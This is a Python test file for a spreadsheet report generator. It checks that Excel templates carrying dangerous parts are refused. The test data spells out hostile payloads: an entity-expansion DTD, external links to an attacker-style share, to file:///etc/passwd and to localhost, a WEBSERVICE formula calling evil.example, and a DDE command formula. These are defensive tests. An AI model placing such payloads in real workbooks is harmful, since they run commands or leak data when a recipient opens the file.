"""A workbook template's parts that no report may carry (an acceptance probe, helper-33): a DTD
(an entity bomb, a local file pulled in) in styles.xml, or a relationship to a file on a share,
were copied into every report (openpyxl then refused to open it; Excel would reach the share).
Each is refused, naming the part, and nothing is written."""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

import pytest

from tests.kaohe_cli import cli

ROOT = Path(__file__).resolve().parents[1]
NAME = "预警通报.xlsx"


def _with_part(ws: Path, edit) -> None:
    src = ROOT / "templates" / NAME
    (ws / "templates").mkdir(exist_ok=True)
    dst = ws / "templates" / NAME
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        parts = {i.filename: zin.read(i.filename) for i in zin.infolist()}
        for name, data in edit(parts).items():
            zout.writestr(name, data)


def _laughs(parts):
    styles = parts["xl/styles.xml"].decode("utf-8")
    head, _, rest = styles.partition("?>")
    parts["xl/styles.xml"] = (head + '?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
                              + rest).encode("utf-8")
    return parts


def _share_link(parts):
    rels = "xl/worksheets/_rels/sheet1.xml.rels"
    link = ('<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'externalLinkPath" Target="file:///\\\\evil.example\\share\\book.xlsx" TargetMode="External"/>')
    body = parts.get(rels, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
                           b'"http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>').decode("utf-8")
    parts[rels] = body.replace("</Relationships>", link + "</Relationships>").encode("utf-8")
    return parts


@pytest.mark.parametrize("edit, said", [(_laughs, "DOCTYPE/ENTITY"), (_share_link, "外部文件、网络共享或网络地址的链接")],
                         ids=["dtd", "share-link"])
def test_a_template_part_no_report_may_carry_is_refused(tmp_path, edit, said):
    ws = tmp_path / "ws"
    shutil.copytree(ROOT / "input", ws / "input")
    _with_part(ws, edit)
    p = cli(ws, "run")
    out = p.stdout + p.stderr
    assert p.returncode == 2 and said in out and NAME in out, out
    assert not list((ws / "output" / "2023-08").glob("*.xlsx"))
    p = cli(ws, "template", "check", str(ws / "templates" / NAME))
    assert p.returncode != 0 and said in p.stdout + p.stderr, p.stdout + p.stderr


def test_a_web_link_in_a_template_stays(tmp_path):
    def web(parts):
        rels = "xl/worksheets/_rels/sheet1.xml.rels"
        link = ('<Relationship Id="rIdW" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'hyperlink" Target="https://www.example.gov.cn/" TargetMode="External"/>')
        body = parts.get(rels, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
                               b'"http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
        parts[rels] = body.decode("utf-8").replace("</Relationships>", link + "</Relationships>").encode("utf-8")
        return parts

    ws = tmp_path / "ws"
    shutil.copytree(ROOT / "input", ws / "input")
    _with_part(ws, web)
    p = cli(ws, "run")
    assert p.returncode in (0, 1), p.stdout + p.stderr


@pytest.mark.parametrize("formula", ['=WEBSERVICE("http://evil.example/")', "=cmd|' /C calc'!A0", "=SUM(1,2)"],
                         ids=["webservice", "dde", "plain"])
def test_a_template_formula_that_reaches_out_is_refused_naming_its_cell(tmp_path, formula):
    import openpyxl

    ws = tmp_path / "ws"
    shutil.copytree(ROOT / "input", ws / "input")
    (ws / "templates").mkdir()
    book = openpyxl.load_workbook(ROOT / "templates" / NAME)
    book.worksheets[0]["K1"] = formula
    book.save(ws / "templates" / NAME)
    p = cli(ws, "run")
    out = p.stdout + p.stderr
    if formula == "=SUM(1,2)":  # the template's own arithmetic stays a formula
        assert p.returncode in (0, 1), out
        return
    assert p.returncode == 2 and "K1" in out and "报表不能带着它发出" in out, out


def _external_link(target: str, prefix: str = "", mode: str = ' TargetMode="External"'):
    """A linked workbook (Excel's externalLink part) whose relationship points at `target`;
    `prefix`: the relationships written with a namespace prefix (<pr:Relationship …>)."""
    def edit(parts):
        ns = f":{prefix[:-1]}" if prefix else ""
        parts["xl/externalLinks/externalLink1.xml"] = (
            b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName '
            b'val="S"/></sheetNames></externalBook></externalLink>')
        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
            f'<?xml version="1.0"?><{prefix}Relationships xmlns{ns}="http://schemas.openxmlformats.org/package/2006/'
            f'relationships"><{prefix}Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            f'2006/relationships/externalLinkPath" Target="{target}"{mode}/></{prefix}Relationships>').encode()
        rels = parts["xl/_rels/workbook.xml.rels"].decode("utf-8")
        parts["xl/_rels/workbook.xml.rels"] = rels.replace("</Relationships>", (
            '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')).encode()
        return parts
    return edit


@pytest.mark.parametrize("edit, shown", [
    (_external_link("http://127.0.0.1:9/a.xlsx"), "http://127.0.0.1:9/a.xlsx"),
    (_external_link("file:///etc/passwd", prefix="pr:"), "file:///etc/passwd"),
    (_external_link("\\\\evil\\share\\a.xlsx", mode=""), "\\\\evil\\share\\a.xlsx"),
], ids=["linked-book-on-the-web", "prefixed-relationship", "share-without-target-mode"])
def test_a_linked_workbook_anywhere_is_refused_naming_the_part(tmp_path, edit, shown):
    """http(s) is a hyperlink's target only: a workbook linked from the web is fetched when the
    report opens. A relationship is one whatever prefix its namespace has."""
    from kaohe_excel.write.engine import Template, TemplateError

    ws = tmp_path / "ws"
    ws.mkdir()
    _with_part(ws, edit)
    with pytest.raises(TemplateError) as e:
        Template(ws / "templates" / NAME)
    msg = str(e.value)
    assert NAME in msg and shown in msg and "externalLink1.xml.rels" in msg and "报表不能带着它发出" in msg, msg
